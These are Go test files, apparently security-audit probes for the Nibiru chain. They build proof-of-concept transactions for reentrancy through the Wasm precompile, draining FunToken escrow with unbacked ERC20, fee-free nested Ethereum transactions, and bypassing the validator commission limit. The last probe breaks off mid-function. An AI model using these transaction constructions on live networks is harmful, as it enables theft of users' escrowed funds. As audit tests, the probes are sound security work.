		"C": eth.EthAddrToNibiruAddr(w.C), "W": w.W, "B": eth.EthAddrToNibiruAddr(addrB), "D": eth.EthAddrToNibiruAddr(addrD),
		"R": eth.EthAddrToNibiruAddr(addrR), "evm": eth.EthAddrToNibiruAddr(evm.EVM_MODULE_ADDRESS),
	}
	abiERC := embeds.SmartContract_ERC20MinterWithMetadataUpdates.ABI
	for _, d := range []string{"unibi", ucoin} {
		for n, a := range who {
			o.Bank[n+"/"+d] = bk.GetBalance(ctx, a, d).Amount.String()
		}
		o.Supply[d] = bk.GetSupply(ctx, d).Amount.String()
		if e, ok := w.erc[d]; ok {
			for _, n := range []string{"R", "evm", "C"} {
				b, err := k.ERC20().BalanceOf(e, eth.NibiruAddrToEthAddr(who[n]), ctx, evmObj)
				if err != nil {
					panic(err)
				}
				o.Erc[d+"/"+n] = b.String()
			}
			ts, err := k.ERC20().LoadERC20BigInt(ctx, evmObj, abiERC, e, "totalSupply")
			if err != nil {
				panic(err)
			}
			o.Erc[d+"/totalSupply"] = ts.String()
		}
	}
	for i := range o.Slots {
		o.Slots[i] = k.GetState(ctx, w.C, gethcommon.BigToHash(big.NewInt(int64(i)))).Big().String()
	}
	o.Erc["funtoken("+ucoin2+")"] = fmt.Sprint(len(k.FunTokens.Collect(ctx, k.FunTokens.Indexes.BankDenom.ExactMatch(ctx, ucoin2))))
	o.Erc["codesize(next module ERC20)"] = "0"
	if acc := k.GetAccount(ctx, w.nextErc); acc != nil {
		o.Erc["codesize(next module ERC20)"] = fmt.Sprint(len(k.GetCode(ctx, gethcommon.BytesToHash(acc.CodeHash))))
	}
	o.Pointer = k.Bank.StateDB != nil
	return o
}

func (w *world) nonce() uint64 {
	return w.c.App.AccountKeeper.GetAccount(w.c.Ctx(), w.eoa.NibiruAddr).GetSequence()
}

func reflectPayload(msgs ...sdk.Msg) []byte {
	var parts []string
	for _, m := range msgs {
		bz, err := proto.Marshal(m)
		if err != nil {
			panic(err)
		}
		parts = append(parts, fmt.Sprintf(`{"stargate":{"type_url":"%s","value":"%s"}}`, sdk.MsgTypeURL(m), base64.StdEncoding.EncodeToString(bz)))
	}
	return []byte(`{"reflect_msg":{"msgs":[` + strings.Join(parts, ",") + `]}}`)
}

// attack delivers T = EOA -> C(mode, Wasm.execute(W, reflect_msg{nested...})).
func (w *world) attack(mode byte, nested ...sdk.Msg) abci.ResponseDeliverTx {
	call, err := embeds.SmartContract_Wasm.ABI.Pack("execute", w.W.String(), reflectPayload(nested...), []precompile.WasmBankCoin{})
	if err != nil {
		w.t.Fatal(err)
	}
	input := append([]byte{mode}, call...)
	return w.c.DeliverEth(w.c.SignEth(w.eoa, &evm.EvmTxArgs{Nonce: w.nonce(), GasLimit: 6_000_000, GasPrice: gasPrice, To: &w.C, Input: input}))
}

func (w *world) convertMsg(denom string, n int64) sdk.Msg {
	return &evm.MsgConvertCoinToEvm{Sender: w.W.String(), BankCoin: sdk.NewInt64Coin(denom, n), ToEthAddr: eth.EIP55Addr{Address: addrR}}
}

func diff(t *testing.T, a, b obs) {
	for _, m := range []struct {
		n    string
		x, y map[string]string
	}{{"bank", a.Bank, b.Bank}, {"supply", a.Supply, b.Supply}, {"erc20", a.Erc, b.Erc}} {
		for k, v := range m.x {
			if m.y[k] != v {
				t.Logf("   %-7s %-18s %s -> %s", m.n, k, v, m.y[k])
			}
		}
	}
	t.Logf("   slots %v -> %v   Bank.StateDB set after tx: %v", a.Slots, b.Slots, b.Pointer)
}

func gasPaid(r abci.ResponseDeliverTx) int64 { return r.GasUsed }

// ---------------------------------------------------------------- scenarios

func TestReentry(t *testing.T) {
	type sc struct {
		name   string
		mode   byte
		nested func(w *world) []sdk.Msg
	}
	conv := func(d string) func(w *world) []sdk.Msg {
		return func(w *world) []sdk.Msg { return []sdk.Msg{w.convertMsg(d, 100)} }
	}
	scs := []sc{
		{"unibi/plain", 0, conv("unibi")},
		{"unibi/inner-revert-swallowed", 2, conv("unibi")},
		{"unibi/top-revert", 1, conv("unibi")},
		{"ucoin/plain", 0, conv(ucoin)},
		{"ucoin/inner-revert-swallowed", 2, conv(ucoin)},
		{"ucoin/top-revert", 1, conv(ucoin)},
		{"authz-exec(convert ucoin)/inner-revert-swallowed", 2, func(w *world) []sdk.Msg {
			ex := authz.NewMsgExec(w.W, []sdk.Msg{w.convertMsg(ucoin, 100)})
			return []sdk.Msg{&ex}
		}},
		{"create-funtoken(ucoin2)/plain", 0, func(w *world) []sdk.Msg {
			return []sdk.Msg{&evm.MsgCreateFunToken{FromBankDenom: ucoin2, Sender: w.W.String()}}
		}},
		{"create-funtoken(ucoin2)/inner-revert-swallowed", 2, func(w *world) []sdk.Msg {
			return []sdk.Msg{&evm.MsgCreateFunToken{FromBankDenom: ucoin2, Sender: w.W.String()}}
		}},
	}
	for _, s := range scs {
		t.Run(s.name, func(t *testing.T) {
			w := newWorld(t)
			before := w.observe()
			eoaBefore := w.c.App.BankKeeper.GetBalance(w.c.Ctx(), w.eoa.NibiruAddr, "unibi").Amount
			r := w.attack(s.mode, s.nested(w)...)
			after := w.observe()
			eoaAfter := w.c.App.BankKeeper.GetBalance(w.c.Ctx(), w.eoa.NibiruAddr, "unibi").Amount
			t.Logf("T: code=%d vmError=%q gasUsed=%d eoa paid %s unibi  log=%.300s", r.Code, vmError(r), r.GasUsed, eoaBefore.Sub(eoaAfter), r.Log)
			diff(t, before, after)
			w.check(t, before, after, s.mode != 0 || vmError(r) != "")
			w.c.EndBlock()
		})
	}
}

// check states what must hold whether or not the nested message is accepted.
func (w *world) check(t *testing.T, a, b obs, frameReverted bool) {
	t.Helper()
	sa, _ := new(big.Int).SetString(a.Supply["unibi"], 10)
	sb, _ := new(big.Int).SetString(b.Supply["unibi"], 10)
	if sb.Cmp(sa) > 0 {
		t.Errorf("unibi supply increased by an EVM tx: %s -> %s (+%s)", sa, sb, new(big.Int).Sub(sb, sa))
	}
	for _, d := range []string{"unibi", ucoin} {
		if b.Erc[d+"/totalSupply"] != b.Bank["evm/"+d] {
			t.Errorf("%s FunToken not backed: ERC20 totalSupply %s, escrow %s", d, b.Erc[d+"/totalSupply"], b.Bank["evm/"+d])
		}
	}
	if !frameReverted {
		return
	}
	for k, v := range a.Bank {
		if b.Bank[k] != v && k != "R/unibi" { // R may be the gas-paying EOA
			t.Errorf("reverted frame changed bank balance %s: %s -> %s", k, v, b.Bank[k])
		}
	}
	for k, v := range a.Erc {
		if b.Erc[k] != v {
			t.Errorf("reverted frame changed %s: %s -> %s", k, v, b.Erc[k])
		}
	}
	if b.Slots[0] != "0" || b.Slots[1] != "0" {
		t.Errorf("reverted frame changed storage of C: %v", b.Slots)
	}
}

// TestDirect: T = EOA -> 0x802 execute(W, ...) without a contract in between; shows the precompile's own error text.
func TestDirect(t *testing.T) {
	for _, d := range []string{"unibi", ucoin} {
		t.Run(d, func(t *testing.T) {
			w := newWorldOwner(t, true)
			before := w.observe()
			call, _ := embeds.SmartContract_Wasm.ABI.Pack("execute", w.W.String(), reflectPayload(w.convertMsg(d, 100)), []precompile.WasmBankCoin{})
			to := precompile.PrecompileAddr_Wasm
			r := w.c.DeliverEth(w.c.SignEth(w.eoa, &evm.EvmTxArgs{Nonce: w.nonce(), GasLimit: 6_000_000, GasPrice: gasPrice, To: &to, Input: call}))
			t.Logf("T: code=%d vmError=%q gasUsed=%d", r.Code, vmError(r), r.GasUsed)
			after := w.observe()
			diff(t, before, after)
			w.check(t, before, after, vmError(r) != "")
		})
	}
}

// TestDrain: the unbacked ERC20 minted in a reverted frame is redeemed against the honest user's escrow.
func TestDrain(t *testing.T) {
	w := newWorld(t)
	saveR := addrR
	addrR = w.eoa.EthAddr // the nested convert pays the attacker EOA
	defer func() { addrR = saveR }()
	before := w.observe()
	r := w.attack(2, w.convertMsg(ucoin, 100))
	t.Logf("T1 (convert inside a reverted frame): code=%d vmError=%q", r.Code, vmError(r))
	call, _ := embeds.SmartContract_FunToken.ABI.Pack("sendToBank", w.erc[ucoin], big.NewInt(100), w.eoa.NibiruAddr.String())
	to := precompile.PrecompileAddr_FunToken
	r = w.c.DeliverEth(w.c.SignEth(w.eoa, &evm.EvmTxArgs{Nonce: w.nonce(), GasLimit: 2_000_000, GasPrice: gasPrice, To: &to, Input: call}))
	t.Logf("T2 (sendToBank 100): code=%d vmError=%q", r.Code, vmError(r))
	after := w.observe()
	diff(t, before, after)
	w.check(t, before, after, false)
	if got := w.c.App.BankKeeper.GetBalance(w.c.Ctx(), w.eoa.NibiruAddr, ucoin).Amount; !got.IsZero() {
		t.Errorf("attacker redeemed %s ucoin it never deposited", got)
	}
	t.Logf("   attacker EOA ucoin: %s (was 0); W still holds %s ucoin; escrow %s ucoin backs ERC20 totalSupply %s",
		w.c.App.BankKeeper.GetBalance(w.c.Ctx(), w.eoa.NibiruAddr, ucoin).Amount, after.Bank["W/"+ucoin], after.Bank["evm/"+ucoin], after.Erc[ucoin+"/totalSupply"])
}

type wasmExecuteMsg struct {
	ContractAddr string                    `json:"contractAddr"`
	MsgArgs      []byte                    `json:"msgArgs"`
	Funds        []precompile.WasmBankCoin `json:"funds"`
}

// TestMirrorLost: no revert anywhere. After the nested handler has cleared Keeper.Bank.StateDB, a later bank
// operation of the same tx (executeMulti's second message carries 50 unibi of funds C -> W) is not mirrored into
// T's StateDB; C's stale balance object is written back at commit.
func TestMirrorLost(t *testing.T) {
	w := newWorld(t)
	before := w.observe()
	second := reflectPayload(&bank.MsgSend{FromAddress: w.W.String(), ToAddress: w.eoa.NibiruAddr.String(), Amount: sdk.NewCoins(sdk.NewInt64Coin(ucoin, 1))})
	call, err := embeds.SmartContract_Wasm.ABI.Pack("executeMulti", []wasmExecuteMsg{
		{ContractAddr: w.W.String(), MsgArgs: reflectPayload(w.convertMsg(ucoin, 100)), Funds: []precompile.WasmBankCoin{}},
		{ContractAddr: w.W.String(), MsgArgs: second, Funds: []precompile.WasmBankCoin{{Denom: "unibi", Amount: big.NewInt(50)}}},
	})
	if err != nil {
		t.Fatal(err)
	}
	r := w.c.DeliverEth(w.c.SignEth(w.eoa, &evm.EvmTxArgs{Nonce: w.nonce(), GasLimit: 6_000_000, GasPrice: gasPrice, To: &w.C, Input: append([]byte{0}, call...)}))
	t.Logf("T: code=%d vmError=%q gasUsed=%d", r.Code, vmError(r), r.GasUsed)
	after := w.observe()
	diff(t, before, after)
	w.check(t, before, after, vmError(r) != "")
}

// TestCreateFunTokenAfterOrphan: MsgCreateFunToken nested in a reverted frame leaves the ERC20 code at the EVM
// module's next CREATE address; does an honest MsgCreateFunToken still work afterwards?
func TestCreateFunTokenAfterOrphan(t *testing.T) {
	w := newWorld(t)
	r := w.attack(2, &evm.MsgCreateFunToken{FromBankDenom: ucoin2, Sender: w.W.String()})
	t.Logf("T: code=%d vmError=%q; EVM module nonce now %d", r.Code, vmError(r), w.c.App.EvmKeeper.GetAccNonce(w.c.Ctx(), evm.EVM_MODULE_ADDRESS))
	vAddr := sdk.AccAddress(w.victim.PubKey().Address())
	r = w.c.DeliverCosmos(w.victim, &evm.MsgCreateFunToken{FromBankDenom: ucoin2, Sender: vAddr.String()})
	if r.Code != 0 {
		t.Errorf("honest MsgCreateFunToken(ucoin2) after the attack fails: %.300s", r.Log)
	}
}

// TestLegitWasmConvert: outside of an EVM transaction a Wasm contract may still convert its own coins.
func TestLegitWasmConvert(t *testing.T) {
	w := newWorld(t)
	before := w.observe()
	ex := &wasmtypes.MsgExecuteContract{Sender: eth.EthAddrToNibiruAddr(w.C).String(), Contract: w.W.String(), Msg: reflectPayload(w.convertMsg(ucoin, 100))}
	ctx, write := w.c.Ctx().CacheContext()
	if _, err := w.c.App.MsgServiceRouter().Handler(ex)(ctx, ex); err != nil {
		t.Fatalf("plain wasm execute -> MsgConvertCoinToEvm rejected: %v", err)
	}
	write()
	after := w.observe()
	diff(t, before, after)
	w.check(t, before, after, false)
	if after.Erc[ucoin+"/R"] != "100" || after.Bank["W/"+ucoin] != "400" {
		t.Errorf("conversion did not happen")
	}
}

// TestNestedEthTx: MsgExec{grantee: W, [MsgEthereumTx signed by a second EOA]} dispatched by W. The grant
// (generic, MsgEthereumTx) is written through the authz handler directly: the ante guard refuses it only as a
// top-level message of a transaction. (a) inside an EVM tx, (b) from a plain Wasm execute.
func TestNestedEthTx(t *testing.T) {
	for _, inside := range []bool{true, false} {
		t.Run(fmt.Sprintf("insideEvmTx=%v", inside), func(t *testing.T) {
			w := newWorld(t)
			c := w.c
			eoa2 := evmtest.NewEthPrivAcc()
			c.Fund(eoa2.NibiruAddr, "unibi", 1000)
			exp := c.Time.Add(time.Hour)
			grant, err := authz.NewMsgGrant(eoa2.NibiruAddr, w.W, authz.NewGenericAuthorization(sdk.MsgTypeURL(&evm.MsgEthereumTx{})), &exp)
			if err != nil {
				t.Fatal(err)
			}
			if _, err := c.App.MsgServiceRouter().Handler(grant)(c.Ctx(), grant); err != nil {
				t.Fatal(err)
			}
			sink := gethcommon.HexToAddress("0x0000000000000000000000000000000000000e0e")
			inner := c.SignEth(eoa2, &evm.EvmTxArgs{Nonce: 0, GasLimit: 1_000_000, GasPrice: gasPrice, To: &sink, Amount: big.NewInt(7_000_000_000_000)})
			inner.From = ""
			ex := authz.NewMsgExec(w.W, []sdk.Msg{inner})
			bk := c.App.BankKeeper
			bal := func(a sdk.AccAddress) string { return bk.GetBalance(c.Ctx(), a, "unibi").Amount.String() }
			feeColl := c.App.AccountKeeper.GetModuleAddress("fee_collector")
			// fees of earlier txs of the block
			if err := bk.SendCoinsFromAccountToModule(c.Ctx(), w.eoa.NibiruAddr, "fee_collector", sdk.NewCoins(sdk.NewInt64Coin("unibi", 5_000_000))); err != nil {
				t.Fatal(err)
			}
			before := w.observe()
			b2, bf := bal(eoa2.NibiruAddr), bal(feeColl)
			if inside {
				r := w.attack(0, &ex)
				t.Logf("T: code=%d vmError=%q gasUsed=%d", r.Code, vmError(r), r.GasUsed)
			} else {
				m := &wasmtypes.MsgExecuteContract{Sender: eth.EthAddrToNibiruAddr(w.C).String(), Contract: w.W.String(), Msg: reflectPayload(&ex)}
				ctx, write := c.Ctx().CacheContext()
				_, err := c.App.MsgServiceRouter().Handler(m)(ctx, m)
				t.Logf("wasm execute: err=%v", err)
				if err == nil {
					write()
				}
			}
			after := w.observe()
			diff(t, before, after)
			t.Logf("   eoa2 unibi %s -> %s (sent 7, never paid a fee); fee collector %s -> %s; sink %s; eoa2 nonce %d",
				b2, bal(eoa2.NibiruAddr), bf, bal(feeColl), bal(eth.EthAddrToNibiruAddr(sink)), c.App.EvmKeeper.GetAccNonce(c.Ctx(), eoa2.EthAddr))
		})
	}
}
