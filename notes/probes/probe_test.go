package probe

import (
	"fmt"
	"math/big"
	"testing"

	sdk "github.com/cosmos/cosmos-sdk/types"
	gethcommon "github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/vm"

	"github.com/NibiruChain/nibiru/v2/x/common/testutil"
	"github.com/NibiruChain/nibiru/v2/x/common/testutil/testapp"
	"github.com/NibiruChain/nibiru/v2/x/evm/embeds"
	"github.com/NibiruChain/nibiru/v2/x/evm/evmtest"
	"github.com/NibiruChain/nibiru/v2/x/evm/precompile"
	sudokeeper "github.com/NibiruChain/nibiru/v2/x/sudo/keeper"
	sudotypes "github.com/NibiruChain/nibiru/v2/x/sudo/types"
)

func TestSudoOrder(t *testing.T) {
	seen := map[string]int{}
	for i := 0; i < 20; i++ {
		app, ctx := testapp.NewNibiruTestAppAndContext()
		root := testutil.ADDR_SUDO_ROOT
		var cs []string
		for j := 0; j < 4; j++ {
			cs = append(cs, sdk.AccAddress([]byte{byte(j + 1), 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20}).String())
		}
		ms := sudokeeper.NewMsgServer(app.SudoKeeper)
		_, err := ms.EditSudoers(sdk.WrapSDKContext(ctx), &sudotypes.MsgEditSudoers{Action: "add_contracts", Contracts: cs, Sender: root})
		if err != nil {
			t.Fatal(err)
		}
		s, _ := app.SudoKeeper.Sudoers.Get(ctx)
		seen[fmt.Sprint(s.Contracts)]++
	}
	fmt.Println("distinct stored orders:", len(seen))
}

func callPrecompile(t *testing.T, name string, input []byte) {
	deps := evmtest.NewTestDeps()
	evmObj, _ := deps.NewEVM()
	defer func() {
		if r := recover(); r != nil {
			fmt.Printf("%s: PANIC %v\n", name, r)
		}
	}()
	ret, left, err := evmObj.Call(vm.AccountRef(deps.Sender.EthAddr), precompile.PrecompileAddr_FunToken, input, 1_000_000, big.NewInt(0))
	fmt.Printf("%s: ret=%x left=%d err=%v\n", name, ret, left, err)
}

func TestPrecompilePanics(t *testing.T) {
	callPrecompile(t, "empty", nil)
	callPrecompile(t, "short", []byte{1, 2})
	callPrecompile(t, "unknownsel", []byte{1, 2, 3, 4})
	in, err := embeds.SmartContract_FunToken.ABI.Pack("bankMsgSend", "0x0000000000000000000000000000000000000001", "", big.NewInt(1))
	if err != nil {
		t.Fatal(err)
	}
	callPrecompile(t, "bankMsgSend-emptydenom", in)
	in, _ = embeds.SmartContract_FunToken.ABI.Pack("bankMsgSend", "0x0000000000000000000000000000000000000001", "unibi", big.NewInt(0))
	callPrecompile(t, "bankMsgSend-zero", in)
	max := new(big.Int).Sub(new(big.Int).Lsh(big.NewInt(1), 256), big.NewInt(1))
	in, _ = embeds.SmartContract_FunToken.ABI.Pack("bankMsgSend", "0x0000000000000000000000000000000000000001", "unibi", max)
	callPrecompile(t, "bankMsgSend-max", in)
	in, _ = embeds.SmartContract_FunToken.ABI.Pack("sendToEvm", "unibi", max, "0x0000000000000000000000000000000000000001")
	callPrecompile(t, "sendToEvm-max", in)
	_ = gethcommon.Address{}
}
