package probe

import (
	_ "embed"
	"encoding/base64"
	"fmt"
	"testing"

	sdkmath "cosmossdk.io/math"
	wasmtypes "github.com/CosmWasm/wasmd/x/wasm/types"
	"github.com/cosmos/cosmos-sdk/crypto/keys/ed25519"
	sdk "github.com/cosmos/cosmos-sdk/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"

	"github.com/NibiruChain/nibiru/v2/x/common/testutil/testapp"
)

//go:embed reflect.wasm
var reflectWasm []byte

func TestWasmCommissionBypass(t *testing.T) {
	napp, ctx := testapp.NewNibiruTestAppAndContext()
	S := sdk.AccAddress([]byte("sender_____________1"))
	_ = testapp.FundAccount(napp.BankKeeper, ctx, S, sdk.NewCoins(sdk.NewCoin("unibi", sdkmath.NewInt(1e13))))
	store := &wasmtypes.MsgStoreCode{Sender: S.String(), WASMByteCode: reflectWasm}
	rsp, err := napp.MsgServiceRouter().Handler(store)(ctx, store)
	if err != nil {
		t.Fatal(err)
	}
	var sr wasmtypes.MsgStoreCodeResponse
	_ = napp.AppCodec().Unmarshal(rsp.Data, &sr)
	inst := &wasmtypes.MsgInstantiateContract{Sender: S.String(), CodeID: sr.CodeID, Label: "reflect", Msg: []byte(`{}`)}
	rsp, err = napp.MsgServiceRouter().Handler(inst)(ctx, inst)
	if err != nil {
		t.Fatal(err)
	}
	var ir wasmtypes.MsgInstantiateContractResponse
	_ = napp.AppCodec().Unmarshal(rsp.Data, &ir)
	C := sdk.MustAccAddressFromBech32(ir.Address)
	fmt.Println("contract", C.String(), len(C))
	_ = testapp.FundAccount(napp.BankKeeper, ctx, C, sdk.NewCoins(sdk.NewCoin("unibi", sdkmath.NewInt(1e12))))
	pk := ed25519.GenPrivKey().PubKey()
	cv, err := stakingtypes.NewMsgCreateValidator(sdk.ValAddress(C), pk, sdk.NewCoin("unibi", sdkmath.NewInt(1e9)),
		stakingtypes.NewDescription("c", "", "", "", ""),
		stakingtypes.NewCommissionRates(sdkmath.LegacyMustNewDecFromStr("0.90"), sdkmath.LegacyOneDec(), sdkmath.LegacyOneDec()), sdkmath.OneInt())
	if err != nil {
		t.Fatal(err)
	}
	bz, err := napp.AppCodec().Marshal(cv)
	if err != nil {
		t.Fatal(err)
	}
	payload := fmt.Sprintf(`{"reflect_msg":{"msgs":[{"stargate":{"type_url":"/cosmos.staking.v1beta1.MsgCreateValidator","value":"%s"}}]}}`, base64.StdEncoding.EncodeToString(bz))
	ex := &wasmtypes.MsgExecuteContract{Sender: S.String(), Contract: C.String(), Msg: []byte(payload)}
	_, err = napp.MsgServiceRouter().Handler(ex)(ctx, ex)
	fmt.Println("execute err:", err)
	v, found := napp.StakingKeeper.GetValidator(ctx, sdk.ValAddress(C))
	if found {
		fmt.Println("validator commission:", v.Commission.Rate)
	} else {
		fmt.Println("validator not found")
	}
}
