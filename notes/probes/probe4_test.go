package probe

import (
	"fmt"
	"math/big"
	"testing"

	gethcommon "github.com/ethereum/go-ethereum/common"

	"github.com/NibiruChain/nibiru/v2/x/evm/evmtest"
)

func TestLostWriteDirect(t *testing.T) {
	deps := evmtest.NewTestDeps()
	db := deps.NewStateDB()
	A := gethcommon.HexToAddress("0xA1")
	k1 := gethcommon.BigToHash(big.NewInt(1))
	v7 := gethcommon.BigToHash(big.NewInt(7))
	db.SetNonce(A, 1)
	db.SetState(A, k1, v7)
	fmt.Println("dirties before:", db.DebugDirties())
	snap := db.Snapshot()
	_, je := db.CacheCtxForPrecompile()
	if err := db.SavePrecompileCalledJournalChange(je); err != nil {
		t.Fatal(err)
	}
	if err := db.CommitCacheCtx(); err != nil {
		t.Fatal(err)
	}
	fmt.Println("dirties after flush:", db.DebugDirties())
	fmt.Println("cacheCtx slot after flush:", deps.EvmKeeper.GetState(*db.GetCacheContext(), A, k1).Big())
	db.RevertToSnapshot(snap)
	fmt.Println("dirties after revert:", db.DebugDirties())
	fmt.Println("cacheCtx slot after revert:", deps.EvmKeeper.GetState(*db.GetCacheContext(), A, k1).Big())
	fmt.Println("statedb view after revert:", db.GetState(A, k1).Big())
	if err := db.Commit(); err != nil {
		t.Fatal(err)
	}
	fmt.Println("final committed slot:", deps.EvmKeeper.GetState(deps.Ctx, A, k1).Big(), "nonce:", deps.EvmKeeper.GetAccNonce(deps.Ctx, A))
}
