package probe

import (
	"fmt"
	"math/big"
	"testing"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	gethcommon "github.com/ethereum/go-ethereum/common"

	"github.com/NibiruChain/nibiru/v2/eth"
	"github.com/NibiruChain/nibiru/v2/x/common/testutil/testapp"
	"github.com/NibiruChain/nibiru/v2/x/evm/evmtest"
	"github.com/NibiruChain/nibiru/v2/x/evm/statedb"
)

func wei(n int64) *big.Int { return new(big.Int).Mul(big.NewInt(n), big.NewInt(1_000_000_000_000)) }

func precompileCall(t *testing.T, deps *evmtest.TestDeps, db *statedb.StateDB, from, to gethcommon.Address, amt int64) {
	_ = db.Snapshot() // evm.Call snapshot
	cacheCtx, je := db.CacheCtxForPrecompile()
	if err := db.SavePrecompileCalledJournalChange(je); err != nil {
		t.Fatal(err)
	}
	if err := db.CommitCacheCtx(); err != nil {
		t.Fatal(err)
	}
	if amt > 0 {
		err := deps.App.BankKeeper.SendCoins(cacheCtx, eth.EthAddrToNibiruAddr(from), eth.EthAddrToNibiruAddr(to), sdk.NewCoins(sdk.NewCoin("unibi", sdkmath.NewInt(amt))))
		if err != nil {
			t.Fatal(err)
		}
	}
}

func TestModelWitness2(t *testing.T) {
	deps := evmtest.NewTestDeps()
	A1, A2, A3 := gethcommon.HexToAddress("0xA1"), gethcommon.HexToAddress("0xA2"), gethcommon.HexToAddress("0xA3")
	_ = testapp.FundAccount(deps.App.BankKeeper, deps.Ctx, eth.EthAddrToNibiruAddr(A1), sdk.NewCoins(sdk.NewCoin("unibi", sdkmath.NewInt(100))))
	acc := deps.App.AccountKeeper.GetAccount(deps.Ctx, eth.EthAddrToNibiruAddr(A1))
	_ = acc.SetSequence(1)
	deps.App.AccountKeeper.SetAccount(deps.Ctx, acc)

	db := deps.NewStateDB()
	h := func(i int64) gethcommon.Hash { return gethcommon.BigToHash(big.NewInt(i)) }
	db.AddBalance(A2, wei(5))
	db.SetState(A1, h(2), h(9))
	snap := db.Snapshot()
	db.SetNonce(A1, 4)
	precompileCall(t, &deps, db, A1, A2, 30)
	db.SetState(A1, h(3), h(8))
	db.RevertToSnapshot(snap)
	precompileCall(t, &deps, db, A1, A3, 10)
	db.SetNonce(A1, 6)
	if err := db.Commit(); err != nil {
		t.Fatal(err)
	}
	bal := func(a gethcommon.Address) string {
		return deps.App.BankKeeper.GetBalance(deps.Ctx, eth.EthAddrToNibiruAddr(a), "unibi").Amount.String()
	}
	fmt.Println("slot(1,2) =", deps.EvmKeeper.GetState(deps.Ctx, A1, h(2)).Big(), " slot(1,3) =", deps.EvmKeeper.GetState(deps.Ctx, A1, h(3)).Big())
	fmt.Println("A1 bal", bal(A1), "nonce", deps.EvmKeeper.GetAccNonce(deps.Ctx, A1), "| A2 bal", bal(A2), "| A3 bal", bal(A3))
}
