package probe

import (
	"fmt"
	"math/big"
	"testing"

	gethcommon "github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core"
	"github.com/ethereum/go-ethereum/core/rawdb"
	gethstate "github.com/ethereum/go-ethereum/core/state"
	gethcore "github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/core/vm"
	gethparams "github.com/ethereum/go-ethereum/params"
)

func TestGethRef(t *testing.T) {
	db, err := gethstate.New(gethcommon.Hash{}, gethstate.NewDatabase(rawdb.NewMemoryDatabase()), nil)
	if err != nil {
		t.Fatal(err)
	}
	A := gethcommon.HexToAddress("0xA1")
	S := gethcommon.HexToAddress("0x51")
	db.AddBalance(S, new(big.Int).Exp(big.NewInt(10), big.NewInt(20), nil))
	runtime := gethcommon.FromHex("6007600155" + "00")
	db.SetNonce(A, 1)
	db.SetCode(A, runtime)
	cfg := *gethparams.AllEthashProtocolChanges
	cfg.LondonBlock = big.NewInt(0)
	msg := gethcore.NewMessage(S, &A, 0, big.NewInt(0), 100000, big.NewInt(1), big.NewInt(1), big.NewInt(1), nil, nil, false)
	blockCtx := vm.BlockContext{CanTransfer: core.CanTransfer, Transfer: core.Transfer, GetHash: func(uint64) gethcommon.Hash { return gethcommon.Hash{} },
		Coinbase: gethcommon.Address{}, GasLimit: 30_000_000, BlockNumber: big.NewInt(1), Time: big.NewInt(1), Difficulty: big.NewInt(0), BaseFee: big.NewInt(1)}
	evm := vm.NewEVM(blockCtx, core.NewEVMTxContext(msg), db, &cfg, vm.Config{})
	gp := new(core.GasPool).AddGas(30_000_000)
	res, err := core.ApplyMessage(evm, msg, gp)
	fmt.Println("res", res != nil, "err", err)
	if res != nil {
		fmt.Println("used", res.UsedGas, "vmerr", res.Err, "slot", db.GetState(A, gethcommon.BigToHash(big.NewInt(1))).Big())
	}
}
