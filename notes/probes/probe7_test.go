package probe

import (
	"fmt"
	"math/rand"
	"testing"
	"time"

	sdkmath "cosmossdk.io/math"
	abci "github.com/cometbft/cometbft/abci/types"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	codectypes "github.com/cosmos/cosmos-sdk/codec/types"
	"github.com/cosmos/cosmos-sdk/crypto/keys/ed25519"
	"github.com/cosmos/cosmos-sdk/crypto/keys/secp256k1"
	"github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/x/authz"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"

	"github.com/NibiruChain/nibiru/v2/app"
	"github.com/NibiruChain/nibiru/v2/x/common/testutil/testapp"
)

func TestCommissionBypass(t *testing.T) {
	napp, _ := testapp.NewNibiruTestApp(app.GenesisState{})
	napp.Commit()
	h := napp.LastBlockHeight() + 1
	header := tmproto.Header{Height: h, Time: time.Unix(1_700_000_000, 0).UTC()}
	napp.BeginBlock(abci.RequestBeginBlock{Header: header})
	ctx := napp.NewContext(false, header)

	priv := secp256k1.GenPrivKey()
	addr := sdk.AccAddress(priv.PubKey().Address())
	if err := testapp.FundAccount(napp.BankKeeper, ctx, addr, sdk.NewCoins(sdk.NewCoin("unibi", sdkmath.NewInt(1e13)))); err != nil {
		t.Fatal(err)
	}
	acc := napp.AccountKeeper.GetAccount(ctx, addr)
	fmt.Println("acc num", acc.GetAccountNumber(), "seq", acc.GetSequence(), "chain", ctx.ChainID())

	mk := func(rate string) *stakingtypes.MsgCreateValidator {
		pk := ed25519.GenPrivKey().PubKey()
		msg, err := stakingtypes.NewMsgCreateValidator(sdk.ValAddress(addr), pk,
			sdk.NewCoin("unibi", sdkmath.NewInt(1e9)),
			stakingtypes.NewDescription("m", "", "", "", ""),
			stakingtypes.NewCommissionRates(sdkmath.LegacyMustNewDecFromStr(rate), sdkmath.LegacyOneDec(), sdkmath.LegacyOneDec()),
			sdkmath.OneInt())
		if err != nil {
			t.Fatal(err)
		}
		return msg
	}
	txCfg := app.MakeEncodingConfig().TxConfig
	deliver := func(seq uint64, msgs ...sdk.Msg) abci.ResponseDeliverTx {
		tx, err := sims.GenSignedMockTx(rand.New(rand.NewSource(1)), txCfg, msgs,
			sdk.NewCoins(sdk.NewCoin("unibi", sdkmath.NewInt(1e6))), 5_000_000, ctx.ChainID(),
			[]uint64{acc.GetAccountNumber()}, []uint64{seq}, priv)
		if err != nil {
			t.Fatal(err)
		}
		bz, err := txCfg.TxEncoder()(tx)
		if err != nil {
			t.Fatal(err)
		}
		return napp.DeliverTx(abci.RequestDeliverTx{Tx: bz})
	}
	// 1. direct: must be rejected by the commission decorator
	r := deliver(0, mk("0.90"))
	fmt.Println("direct 0.90: code", r.Code, r.Log[:min(len(r.Log), 120)])
	// 2. wrapped in MsgExec with grantee = self
	inner := mk("0.90")
	exec := authz.NewMsgExec(addr, []sdk.Msg{inner})
	r = deliver(0, &exec)
